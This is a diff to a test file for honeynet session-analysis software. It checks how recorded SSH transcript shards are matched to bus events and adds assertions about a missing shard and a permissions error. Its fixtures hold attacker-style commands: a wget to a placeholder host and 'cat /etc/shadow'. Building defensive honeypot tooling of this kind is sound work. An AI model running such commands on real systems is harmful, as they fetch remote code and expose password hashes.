@@ -173,9 +173,11 @@ describe.skipIf(!hasNatsServer())('attached to a live honeynet', () => {
   test('a shard that appears later takes the place of what the bus said', async () => {
     const artifacts = testFolder();
     put(artifacts, `other/ssh/transcripts/${SHARD}`, shard('other'));
-    const { analysis, send } = await attach(server, { artifacts });
+    const { analysis, live, problems, send } = await attach(server, { artifacts });
     await send(TOPIC.sessionEnded, ended({ shard_path: SHARD, commands: ['wget http://x/y'] }));
     await eventually('the bus has to do', () => analysis.store.session(REF)?.commands === 1);
+    expect(live.status().skips['shard missing']).toBe(1);
+    expect(problems.join()).toMatch(/web-01\/ssh.*permissions.*service.*recorder/);
     put(artifacts, `web-01/ssh/transcripts/${SHARD}`, shard(SID));
     await eventually('the shard is read', () => (analysis.store.session(REF)?.inputs ?? 0) > 0);
     expect(analysis.store.commands(REF).map(({ text }) => text)).toEqual(['cat /etc/shadow']);
